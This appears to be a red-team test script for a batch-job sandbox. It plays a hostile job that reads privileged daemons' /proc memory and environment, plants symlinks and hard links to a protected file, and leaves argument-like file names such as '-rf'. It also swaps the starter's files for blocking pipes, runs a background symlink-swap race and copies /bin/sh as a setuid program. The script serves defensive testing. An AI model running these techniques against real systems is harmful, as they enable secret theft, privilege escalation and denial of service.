"""What a hostile job leaves in its sandbox for whoever comes by with more rights.

Usage: red_team_files.py SECRET DAEMONS. It runs by itself, with nothing but the standard library.
SECRET is a file that its account may not read, DAEMONS are the pids of the pool's daemons. Each
line of standard output is an attack that succeeded; the last line says that all were tried.
"""

import contextlib
import os
import socket
import sys


def look_into(pids: list[str]) -> None:
    """Read what processes with more rights hold: their memory, environment and open files."""
    for pid in {*pids, str(os.getppid())}:
        for name in ("mem", "environ", "maps", "auxv", "io"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                # Who could open the memory could read and write it.
                if name == "mem" or file.read(16):
                    print("read", name, "of", pid)
        for name in ("fd", "map_files", "root/etc", "cwd/."):
            with contextlib.suppress(OSError):
                os.listdir(f"/proc/{pid}/{name}")
                print("listed", name, "of", pid)


def lay_links(secret: str) -> None:
    """Give what is brought home a name that leads to what is not ours, or has no end."""
    os.symlink(secret, "linked")
    os.symlink(os.path.dirname(secret), "folder_of_links")
    os.symlink("/dev/zero", "endless")
    with contextlib.suppress(OSError):
        os.link(secret, "hard")
        print("linked", secret)
    os.mkdir("inside")
    os.symlink(secret, "inside/linked")
    os.symlink("..", "inside/round")
    for odd in ("a\n005 (001.000.000) b", "-rf", " ", "\\", "caf\udce9", "x" * 255, "*"):
        with open(os.path.join("inside", odd), "w") as file:
            file.write("odd")


def block_the_way() -> None:
    """Put pipes that nobody reads, and sockets, where the starter reads and writes."""
    os.mkfifo("inside/pipe")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("inside/socket")
    for name in (".update.ad", ".job.ad", ".machine.ad", ".chirp.config"):
        with contextlib.suppress(OSError):
            os.unlink(name)
        with contextlib.suppress(OSError):
            os.mkfifo(name)
    # Where the list of what we leave is to be written.
    for name in os.listdir():
        if name.endswith("_manifest"):
            os.mkfifo(f"{name}/out")


def swap_for_ever(secret: str) -> None:
    """Go on after our end, as long as we are let, changing a file into a link and back."""
    with open("swapped", "w") as file:
        file.write("mine")
    if os.fork():
        return
    os.setsid()
    os.closerange(0, 64)
    while True:
        with open("new", "w") as file:
            file.write("mine")
        os.rename("new", "swapped")
        os.symlink(secret, "new")
        os.rename("new", "swapped")


def fill_with_names() -> None:
    """Leave very many files, a folder that nobody may enter, and a program with somebody's id."""
    os.mkdir("many")
    for number in range(5_000):
        os.close(os.open(f"many/{number}", os.O_CREAT | os.O_WRONLY))
    os.mkdir("many/closed")
    with open("many/closed/file", "w") as file:
        file.write("shut")
    os.chmod("many/closed", 0)
    with open("/bin/sh", "rb") as program, open("many/shell", "wb") as copy:
        copy.write(program.read())
    os.chmod("many/shell", 0o6777)


def main(secret: str, daemons: str) -> None:
    look_into(daemons.split(","))
    lay_links(secret)
    block_the_way()
    fill_with_names()
    swap_for_ever(secret)
    print("tried everything")


main(*sys.argv[1:])
